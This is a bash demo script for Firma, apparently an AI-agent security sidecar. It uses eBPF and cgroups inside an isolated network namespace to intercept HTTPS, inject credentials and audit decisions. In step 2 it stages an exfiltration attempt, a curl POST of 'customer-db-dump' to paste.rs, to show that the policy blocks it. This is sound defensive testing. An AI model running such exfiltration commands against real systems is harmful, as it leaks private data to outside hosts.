#!/usr/bin/env bash
# Firma transparent-mode demo (run by `cargo xtask demo`; needs root for eBPF and cgroups).
#
# Inside a fresh network namespace (nothing leaves it): starts the Authority, a local HTTPS
# server posing as api.openai.com on 10.77.0.2:443 that echoes the Authorization header it
# receives, and `firma sidecar` in transparent mode. Then tags a new cgroup with
# `firma sidecar attach` and runs UNMODIFIED curl in it, with no proxy variables:
#   1. curl https://api.openai.com/v1/models     -> allowed; the upstream got Firma's key,
#                                                    not the one curl sent
#   2. curl -d … https://paste.rs/                -> 403 PolicyDenied; nothing is contacted
#   3. the same curl outside the cgroup           -> not redirected (talks to the upstream)
# and verifies the signed audit file. Everything it starts is stopped on exit.
#
# Environment: FIRMA (path of the firma binary, default target/debug/firma).
set -euo pipefail

ROOT=$(cd "$(dirname "$0")/.." && pwd)
FIRMA=${FIRMA:-$ROOT/target/debug/firma}

if [[ -z "${FIRMA_DEMO_IN_NETNS:-}" ]]; then
    if [[ $EUID -ne 0 ]]; then
        echo "the demo needs root (eBPF programs, cgroups, a network namespace)" >&2
        exit 1
    fi
    [[ -x "$FIRMA" ]] || { echo "no firma binary at $FIRMA (cargo build -p firma)" >&2; exit 1; }
    echo "==> entering a fresh network namespace (unshare --net): the demo's traffic stays in it"
    exec env FIRMA_DEMO_IN_NETNS=1 FIRMA="$FIRMA" unshare --net -- "$0" "$@"
fi

export NO_COLOR=1
# Bold only on a terminal: logs and CI get plain text.
if [[ -t 1 ]]; then
    step() { printf '\n\033[1m==> %s\033[0m\n' "$*"; }
else
    step() { printf '\n==> %s\n' "$*"; }
fi
show() { printf '    $ %s\n' "$*"; }

ip link set lo up
# Namespace addresses for the fake upstreams: loopback itself is closed to tagged workloads.
ip addr add 10.77.0.2/32 dev lo
ip addr add 10.77.0.3/32 dev lo
DIR=$(mktemp -d /tmp/firma-demo.XXXXXX)
CG2=$(awk '$9 == "cgroup2" { print $5; exit }' /proc/self/mountinfo)
[[ -n "$CG2" ]] || { echo "no cgroup2 mount" >&2; exit 1; }
CG_REL=/firma-demo-$$
CG_DIR=$CG2$CG_REL
PINS=/sys/fs/bpf/firma-demo-$$
PIDS=()

cleanup() {
    set +e
    step "cleanup"
    if [[ -S "$DIR/sidecar.sock" ]]; then
        "$FIRMA" sidecar -c "$DIR/firma.toml" detach --cgroup "$CG_REL" >/dev/null 2>&1 \
            && echo "    detached $CG_REL"
    fi
    for pid in "${PIDS[@]}"; do kill "$pid" 2>/dev/null; done
    for pid in "${PIDS[@]}"; do wait "$pid" 2>/dev/null; done
    rmdir "$CG_DIR" 2>/dev/null
    rm -rf "$PINS" "$DIR"
    echo "    stopped authority, sidecar and upstream; removed $CG_REL, $PINS and $DIR"
}
trap cleanup EXIT

wait_for() { # FILE TEXT
    for _ in $(seq 1 200); do
        grep -q "$2" "$1" 2>/dev/null && return 0
        sleep 0.1
    done
    echo "timed out waiting for '$2' in $1:" >&2
    cat "$1" >&2
    exit 1
}

step "keys, policies and a local upstream CA in $DIR"
"$FIRMA" authority generate-key -o "$DIR/authority.key" >/dev/null
"$FIRMA" authority generate-key -o "$DIR/audit.key" >/dev/null
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 1 \
    -keyout "$DIR/up-ca.key" -out "$DIR/up-ca.crt" -subj "/CN=demo upstream CA" \
    -addext "basicConstraints=critical,CA:TRUE" -addext "keyUsage=critical,keyCertSign" 2>/dev/null
openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
    -keyout "$DIR/up.key" -out "$DIR/up.csr" -subj "/CN=api.openai.com" 2>/dev/null
printf 'subjectAltName=DNS:api.openai.com\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n' >"$DIR/up.ext"
openssl x509 -req -in "$DIR/up.csr" -CA "$DIR/up-ca.crt" -CAkey "$DIR/up-ca.key" -CAcreateserial \
    -days 1 -out "$DIR/up.crt" -extfile "$DIR/up.ext" 2>/dev/null
: >"$DIR/revocations.txt"

cat >"$DIR/firma.toml" <<EOF
[authority]
listen_addr = "127.0.0.1:50051"
policy_dir = "$ROOT/policies/runtime/genai-app"
issuance_policy_dir = "$ROOT/policies/issuance/genai-app"
revocation_file = "$DIR/revocations.txt"
key_file = "$DIR/authority.key"
max_ttl_seconds = 3600
bundle_ttl_seconds = 60
log_level = "info"

[sidecar.interceptor]
mode = "transparent"
drain_timeout_secs = 2

[sidecar.interceptor.https_mitm]
enabled = true
intercept_hosts = ["api.openai.com", "paste.rs"]

[sidecar.interceptor.transparent]
port = 15001
pin_dir = "$PINS"
control_socket = "$DIR/sidecar.sock"

[sidecar.ca]
dir = "$DIR/ca"

[sidecar.mapping]
rules_path = "$ROOT/policies/mapping-rules.toml"
default_protected = true

[sidecar.policy]
authority_url = "http://127.0.0.1:50051"

[sidecar.capability_seed]
paths = ["$DIR/seed.toml"]

[sidecar.authority]
public_key_path = "$DIR/authority.pub"

[sidecar.connector]
default_timeout_ms = 5000
extra_root_certs = ["$DIR/up-ca.crt"]

# Where api.openai.com is (no DNS in the demo's namespace). The sidecar connects only to an
# address of the decided name, and the connection's original destination must be it
# (otherwise DestinationMismatch: docs/architecture.md, "Destination binding").
[[sidecar.connector.hosts]]
host = "api.openai.com"
address = "10.77.0.2:443"

[[sidecar.credentials]]
host = "api.openai.com"
mode = "basic"
header = "Authorization"
prefix = "Bearer "
value_from_env = "OPENAI_API_KEY"

[sidecar.audit]
sink = "file"
path = "$DIR/audit.jsonl"
signing_key_path = "$DIR/audit.key"

[sidecar.log]
level = "info"
EOF
echo "    wrote $DIR/firma.toml (mode = \"transparent\")"

step "issue a capability for agent tenant-acme, session s1"
show "firma authority -c firma.toml issue --agent-id tenant-acme --session-id s1 --action model.inference.chat --action communication.external.send --resource-scope '*' --ttl-seconds 3600 --output seed.toml"
"$FIRMA" authority -c "$DIR/firma.toml" issue --agent-id tenant-acme --session-id s1 \
    --action model.inference.chat --action communication.external.send \
    --resource-scope '*' --ttl-seconds 3600 --output "$DIR/seed.toml" 2>&1 | sed 's/^/    /'

step "start the Authority"
"$FIRMA" authority -c "$DIR/firma.toml" >"$DIR/authority.log" 2>&1 &
PIDS+=($!)
wait_for "$DIR/authority.log" "gRPC listening"
grep -E "loaded|gRPC listening" "$DIR/authority.log" | sed -E 's/^[^ ]+ +//; s/^/    /'

step "start the fake api.openai.com on 10.77.0.2:443 (echoes the Authorization it receives)"
python3 - "$DIR/up.crt" "$DIR/up.key" >"$DIR/upstream.log" 2>&1 <<'PY' &
import http.server, json, ssl, sys
class Echo(http.server.BaseHTTPRequestHandler):
    def reply(self):
        n = int(self.headers.get("content-length") or 0)
        if n:
            self.rfile.read(n)
        auth = self.headers.get("authorization")
        print(f"[upstream] {self.command} {self.path} authorization={auth!r}", flush=True)
        out = json.dumps({"object": "list", "data": [{"id": "gpt-demo"}],
                          "upstream_saw_authorization": auth}).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)
    do_GET = do_POST = reply
    def log_message(self, *a):
        pass
srv = http.server.ThreadingHTTPServer(("10.77.0.2", 443), Echo)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(sys.argv[1], sys.argv[2])
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
print("[upstream] listening on 10.77.0.2:443", flush=True)
srv.serve_forever()
PY
PIDS+=($!)
wait_for "$DIR/upstream.log" "listening"

step "start the sidecar in transparent mode (OPENAI_API_KEY is only in the sidecar's environment)"
OPENAI_API_KEY=sk-firma-injected-demo-key "$FIRMA" sidecar -c "$DIR/firma.toml" >"$DIR/sidecar.log" 2>&1 &
PIDS+=($!)
wait_for "$DIR/sidecar.log" "sidecar ready"
grep -E "eBPF redirector loaded|transparent listening|control socket|connected to authority|seeded|sidecar ready" \
    "$DIR/sidecar.log" | sed -E 's/^[^ ]+ +//; s/^/    /'

step "create a cgroup for the agent and tag it"
mkdir -p "$CG_DIR"
show "firma sidecar -c firma.toml attach --cgroup $CG_REL --agent-id tenant-acme --session-id s1"
"$FIRMA" sidecar -c "$DIR/firma.toml" attach --cgroup "$CG_REL" --agent-id tenant-acme --session-id s1 | sed 's/^/    /'
show "firma sidecar -c firma.toml status"
"$FIRMA" sidecar -c "$DIR/firma.toml" status | sed 's/^/    /'

# No proxy variable anywhere: redirection is the kernel's doing.
unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy ALL_PROXY all_proxy
in_cgroup() { sh -c 'echo $$ > "$0/cgroup.procs" && exec "$@"' "$CG_DIR" "$@"; }

step "1. unmodified curl in the tagged cgroup, no proxy variables, sending its own (fake) key"
show "curl https://api.openai.com/v1/models --resolve api.openai.com:443:10.77.0.2 --cacert ca/firma-ca.crt -H 'Authorization: Bearer sk-agent-own-key'"
in_cgroup curl -sS https://api.openai.com/v1/models \
    --resolve api.openai.com:443:10.77.0.2 --cacert "$DIR/ca/firma-ca.crt" \
    -H "Authorization: Bearer sk-agent-own-key" -w '\n    HTTP %{http_code}\n' | sed 's/^{/    {/'
echo "    upstream log: $(tail -n 1 "$DIR/upstream.log")"

step "2. exfiltration attempt from the same cgroup: paste.rs (resolved to 10.77.0.3, where nothing listens)"
show "curl -X POST https://paste.rs/ -d 'customer-db-dump' --resolve paste.rs:443:10.77.0.3 --cacert ca/firma-ca.crt"
in_cgroup curl -sS https://paste.rs/ -d 'customer-db-dump' \
    --resolve paste.rs:443:10.77.0.3 --cacert "$DIR/ca/firma-ca.crt" -w '\n    HTTP %{http_code}\n' | sed 's/^{/    {/'
echo "    upstream requests so far: $(grep -c '^\[upstream\] [A-Z]' "$DIR/upstream.log") (the deny reached nobody)"

step "3. the same curl OUTSIDE the cgroup is not redirected (it must trust the upstream's own CA)"
show "curl https://api.openai.com/v1/models --resolve api.openai.com:443:10.77.0.2 --cacert up-ca.crt -H 'Authorization: Bearer sk-agent-own-key'"
curl -sS https://api.openai.com/v1/models \
    --resolve api.openai.com:443:10.77.0.2 --cacert "$DIR/up-ca.crt" \
    -H "Authorization: Bearer sk-agent-own-key" -w '\n    HTTP %{http_code}\n' | sed 's/^{/    {/'

step "audit events (signed, hash-chained) for the tagged workload"
sleep 0.3
jq -r 'select(.workload != null) | "    \(.decision.outcome) \(.decision.reason // "-") \(.envelope.intent.action_class // "-") \(.envelope.intent.resource.host)\(.envelope.intent.resource.path // "") cgroup=\(.workload.cgroup_path) pid=\(.workload.pid) credential_injected=\(.connector.credential_injected)"' \
    "$DIR/audit.jsonl"
show "firma audit verify --public-key audit.pub audit.jsonl"
"$FIRMA" audit verify --public-key "$DIR/audit.pub" "$DIR/audit.jsonl" 2>&1 | sed 's/^/    /'
